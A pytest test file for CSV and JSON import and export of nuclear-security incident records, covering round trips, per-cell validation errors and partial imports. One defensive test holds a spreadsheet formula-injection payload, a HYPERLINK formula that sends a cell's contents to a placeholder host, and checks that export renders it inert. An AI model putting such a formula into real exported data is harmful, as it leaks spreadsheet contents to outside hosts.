"""Records and CSV: round trips, every bad row reported, all-or-nothing or partial."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nucsec.incidents.convert import incident_from_record, incident_to_record
from nucsec.incidents.csvio import (
    COLUMNS,
    FORMULA_START,
    guard_cell,
    incidents_to_csv,
    read_incidents_csv,
    unguard_cell,
)
from nucsec.incidents.demo import demo_incidents
from nucsec.incidents.errors import CsvImportError
from nucsec.incidents.items import SourceItem
from nucsec.incidents.model import Incident

from .strategies import incidents

TODAY = date(2025, 1, 1)


@settings(max_examples=80, deadline=None)
@given(incidents())
def test_record_round_trip_through_json(incident: Incident) -> None:
    record = json.loads(json.dumps(incident_to_record(incident)))
    assert incident_from_record(record) == incident


@settings(max_examples=80, deadline=None)
@given(incidents())
def test_csv_round_trip(incident: Incident) -> None:
    result = read_incidents_csv(incidents_to_csv([incident]))
    assert result.incidents == (incident,)
    assert result.errors == ()


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12))
def test_formula_guard_is_undone_exactly(value: str) -> None:
    assert unguard_cell(guard_cell(value)) == value


@settings(max_examples=80, deadline=None)
@given(incidents())
def test_no_exported_cell_is_a_formula(incident: Incident) -> None:
    rows = list(csv.reader(io.StringIO(incidents_to_csv([incident]))))
    for cell in (c for row in rows[1:] for c in row):
        if cell[:1] in FORMULA_START:
            float(cell)  # only numbers (a negative longitude) may start so


def test_formula_in_a_narrative_is_exported_inert_and_imported_unchanged() -> None:
    incident = next(i for _, i in demo_incidents() if i.narrative)
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    p = replace(incident.narrative[0], text=formula)
    changed = replace(incident, narrative=(p, *incident.narrative[1:]))
    text = incidents_to_csv([changed])
    assert "'" + formula.replace('"', '""') in text
    assert read_incidents_csv(text, today=TODAY).incidents == (changed,)


def test_demo_round_trip_and_header() -> None:
    demo = [i for _, i in demo_incidents()]
    text = incidents_to_csv(demo)
    assert text.splitlines()[0].split(",") == list(COLUMNS)
    assert read_incidents_csv(text, today=TODAY).incidents == tuple(demo)


_BAD = {
    9: ("BAD-MASS", "mass_g"),
    11: ("BAD-ENR", "enrichment_pct"),
    13: ("BAD-UNIT", "activity"),
    15: ("BAD-NUC", "nuclide"),
    16: ("BAD-FUTURE", "incident_date", "report_date"),  # two problems, both reported
    17: ("BAD-GROUP", "itdb_group"),
}


def test_every_bad_row_is_reported_and_nothing_imported(data_dir: Path) -> None:
    text = (data_dir / "import_mixed.csv").read_text(encoding="utf-8")
    with pytest.raises(CsvImportError) as err:
        read_incidents_csv(text, today=TODAY)
    got: dict[int, tuple[str | None, ...]] = {}
    for e in err.value.errors:
        got[e.line] = (*got.get(e.line, (e.reference,)), e.field)
    assert got == _BAD
    assert "6 bad row(s) (7 problems), nothing imported" in str(err.value)
    assert len(err.value.to_dict()["rows"]) == 7


def test_partial_imports_exactly_the_good_ones(data_dir: Path) -> None:
    text = (data_dir / "import_mixed.csv").read_text(encoding="utf-8")
    result = read_incidents_csv(text, today=TODAY, partial=True)
    assert [i.reference for i in result.incidents] == ["GOOD-1", "GOOD-2"]
    assert [e.line for e in result.errors] == sorted(n for n, v in _BAD.items() for _ in v[1:])
    good = result.incidents[0]
    assert isinstance(good.items[0], SourceItem)
    assert good.narrative[0].text == "A gauge, stolen;\nfound two days later"
    assert good.items[0].activity_bq == pytest.approx(0.19e12)


def test_without_today_future_dates_pass(data_dir: Path) -> None:
    text = (data_dir / "import_mixed.csv").read_text(encoding="utf-8")
    result = read_incidents_csv(text, partial=True)
    assert "BAD-FUTURE" in [i.reference for i in result.incidents]


_HEAD = (
    "reference,record,report_date,country,incident_type,itdb_group,nuclide,activity,label,text\n"
)


@pytest.mark.parametrize(
    "body,line,field",
    [
        ("A-1,incident,2020-01-01,JP,loss,III,,,,\n" * 2, 3, "reference"),
        ("A-1,source,,,,,Cs-137,1 GBq,,\n", 2, "reference"),
        ("A-1,incident,2020-01-01,JP,loss,III,Cs-137,,,\n", 2, "nuclide"),
        ("A-1,gadget,,,,,,,,\n", 2, "record"),
        ("A-1,incident,2020-01-01,JP,loss,III,,,,\nA-1,portion,,,,,,,,hello\n", 3, "label"),
        ("A-1,incident,2020-01-01,JP,loss,III,,,,,,,,\n", 2, None),
    ],
    ids=["duplicate-incident-row", "no-incident-row", "stray-column", "unknown-kind",
         "portion-without-label", "too-many-cells"],
)  # fmt: skip
def test_structural_errors(body: str, line: int, field: str | None) -> None:
    result = read_incidents_csv(_HEAD + body, partial=True)
    assert result.incidents == ()
    assert [(e.line, e.field) for e in result.errors] == [(line, field)]


_HEAD3 = (
    "reference,record,incident_date,report_date,country,incident_type,itdb_group,status,"
    "nuclide,activity,activity_reference_date,sealed,material,mass_g,enrichment_pct,label,text\n"
)


def test_every_problem_of_a_row_is_reported_not_only_the_first() -> None:
    """Each cell that is wrong on its own is named, in column order, for the incident row
    and for each part row; the good incident beside them is still read (partial)."""
    body = (
        "A-1,incident,2020-02-30,2019-01-01,Atlantis,loss,IX,closed?,,,,,,,,,\n"
        "A-1,source,,,,,,,Xx-99,555,2020-13-01,maybe,,,,,\n"
        "A-1,material,,,,,,,,,,,plutonium-ish,-3,,,\n"
        "B-2,incident,,2020-01-01,JP,,III,,,,,,,,,,\n"
        "C-3,incident,2020-01-01,2020-01-02,JP,loss,III,,,,,,,,,,\n"
    )
    result = read_incidents_csv(_HEAD3 + body, partial=True)
    assert [i.reference for i in result.incidents] == ["C-3"]
    got = [(e.line, e.field) for e in result.errors]
    assert got == [
        (2, "incident_date"), (2, "country"), (2, "itdb_group"), (2, "status"),
        (3, "nuclide"), (3, "activity"), (3, "activity_reference_date"), (3, "sealed"),
        (4, "material"), (4, "mass_g"),
        (5, "incident_type"),
    ]  # fmt: skip
    messages = {(e.line, e.field): e.message for e in result.errors}
    assert "not a date" in messages[(2, "incident_date")]
    assert "unit" in messages[(3, "activity")].lower()
    assert messages[(5, "incident_type")] == "incident_type is required"
    with pytest.raises(CsvImportError) as err:
        read_incidents_csv(_HEAD3 + body)
    assert str(err.value).startswith("4 bad row(s) (11 problems), nothing imported")


def test_a_row_good_cell_by_cell_reports_its_first_problem_across_cells() -> None:
    """Checks that need two cells (date order, enrichment for uranium only) still run once
    every cell is good on its own."""
    body = (
        "A-1,incident,2020-03-01,2020-01-01,JP,loss,III,,,,,,,,,,\n"
        "B-2,incident,2020-01-01,2020-01-02,JP,loss,III,,,,,,,,,,\n"
        "B-2,material,,,,,,,,,,,Pu,10,90,,\n"
    )
    result = read_incidents_csv(_HEAD3 + body, partial=True)
    assert [(e.line, e.field) for e in result.errors] == [
        (2, "report_date"),
        (4, "enrichment_pct"),
    ]
    assert "uranium only" in result.errors[1].message


def test_a_future_date_is_named_in_its_own_cell() -> None:
    body = "A-1,incident,2030-01-01,2030-01-02,JP,loss,III,,,,,,,,,,\n"
    body += "A-1,source,,,,,,,Cs-137,1 GBq,2031-01-01,,,,,,\n"
    result = read_incidents_csv(_HEAD3 + body, partial=True, today=TODAY)
    assert [(e.line, e.field) for e in result.errors] == [
        (2, "incident_date"),
        (2, "report_date"),
        (3, "activity_reference_date"),
    ]
    assert all("is in the future (today 2025-01-01)" in e.message for e in result.errors)


def test_a_narrative_marking_is_checked_by_the_callers_parser() -> None:
    from nucsec.errors import InputError

    def check_label(text: str) -> str:
        if text not in {"UNCLASSIFIED", "SECRET"}:
            raise InputError(f"unknown marking {text!r}", field="label")
        return text

    body = "A-1,incident,2020-01-01,2020-01-02,JP,loss,III,,,,,,,,,PUBLIC,hello\n"
    body += "A-1,portion,,,,,,,,,,,,,,SECRETISH,world\n"
    result = read_incidents_csv(_HEAD3 + body, partial=True, check_label=check_label)
    assert [(e.line, e.field) for e in result.errors] == [
        (2, "label"),
        (2, "text"),
        (3, "label"),
    ]
    assert result.errors[2].message == "unknown marking 'SECRETISH'"
    ok = body.replace("SECRETISH", "SECRET").replace(",PUBLIC,hello", ",,")
    assert read_incidents_csv(_HEAD3 + ok, check_label=check_label).incidents[0].narrative


def test_every_stray_column_of_a_row_is_reported() -> None:
    body = "A-1,incident,2020-01-01,JP,loss,III,Cs-137,1 GBq,,\n"
    result = read_incidents_csv(_HEAD + body, partial=True)
    assert [(e.line, e.field) for e in result.errors] == [(2, "nuclide"), (2, "activity")]


@pytest.mark.parametrize(
    "header", ["reference,record,colour\n", "reference,country\n", "reference,record,record\n", ""]
)
def test_bad_header_is_refused_even_with_partial(header: str) -> None:
    with pytest.raises(CsvImportError) as err:
        read_incidents_csv(header + "A-1,incident,red\n", partial=True)
    assert err.value.errors[0].line == 1


def test_blank_lines_keep_line_numbers_right() -> None:
    body = "\nA-1,incident,2020-01-01,JP,loss,IV,,,,\n"
    result = read_incidents_csv(_HEAD + body, partial=True)
    assert [(e.line, e.field) for e in result.errors] == [(3, "itdb_group")]


def test_bom_and_missing_trailing_cells_are_fine() -> None:
    text = "\ufeff" + _HEAD + "A-1,incident,2020-01-01,JP,loss,III\n"
    assert read_incidents_csv(text).incidents[0].reference == "A-1"


@settings(max_examples=150, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list('A-1,"\n\r x;=IJPincdetsourcmal2020-01')), max_size=200)
)
def test_fuzzed_csv_gives_only_typed_errors(body: str) -> None:
    try:
        result = read_incidents_csv(_HEAD + body, partial=True)
    except CsvImportError:
        return
    assert all(isinstance(i, Incident) for i in result.incidents)


def test_unterminated_quote_is_a_typed_error() -> None:
    import csv

    old = csv.field_size_limit(100)
    try:
        with pytest.raises(CsvImportError, match="unreadable CSV"):
            read_incidents_csv(_HEAD + 'A-1,incident,"' + "x" * 200 + "\n", partial=True)
    finally:
        csv.field_size_limit(old)


_HEAD2 = "reference,record,report_date,country,incident_type,itdb_group,name,sha256,size_bytes,"
_HEAD2 += "to_party,requested_on,question\n"
_INC = "A-1,incident,2020-01-01,JP,loss,III,,,,,,\n"


@pytest.mark.parametrize(
    "row,field",
    [
        ("A-1,attachment,,,,,spec.n42," + "a" * 64 + ",many,,,\n", "size_bytes"),
        ("A-1,attachment,,,,,spec.n42,abc,12,,,\n", "sha256"),
        ("A-1,request,,,,,,,,USA.DOE,,age?\n", "requested_on"),
        ("A-1,request,,,,,,,,USA.DOE,2020-01-02,\n", "question"),
    ],
    ids=["size-not-integer", "bad-hash", "request-without-date", "request-without-question"],
)
def test_attachment_and_request_rows(row: str, field: str) -> None:
    result = read_incidents_csv(_HEAD2 + _INC + row, partial=True)
    assert [(e.line, e.field) for e in result.errors] == [(3, field)]
    good = "A-1,attachment,,,,,spec.n42," + "a" * 64 + ",12,,,\n"
    good += "A-1,request,,,,,,,,USA.DOE,2020-01-02,How old is it?\n"
    incident = read_incidents_csv(_HEAD2 + _INC + good).incidents[0]
    assert incident.attachments[0].size_bytes == 12
    assert incident.support_requests[0].to_party == "USA.DOE"


def test_incident_lines_count_the_lines_of_multi_line_cells() -> None:
    from nucsec.incidents.csvio import incident_lines

    incident = next(i for _, i in demo_incidents() if i.narrative)
    p = replace(incident.narrative[0], text="first line\nsecond line\nthird line")
    two = [
        replace(incident, narrative=(p,)),
        next(i for _, i in demo_incidents() if i.reference != incident.reference),
    ]
    text = incidents_to_csv(two)
    lines = incident_lines(text)
    physical = text.splitlines()
    for ref, line in lines.items():
        row = next(csv.reader([physical[line - 1]]))
        assert unguard_cell(row[0]) == ref and row[1] == "incident"
    assert set(lines) == {i.reference for i in two}
    assert lines[two[1].reference] > 4  # after the three lines of the portion's cell
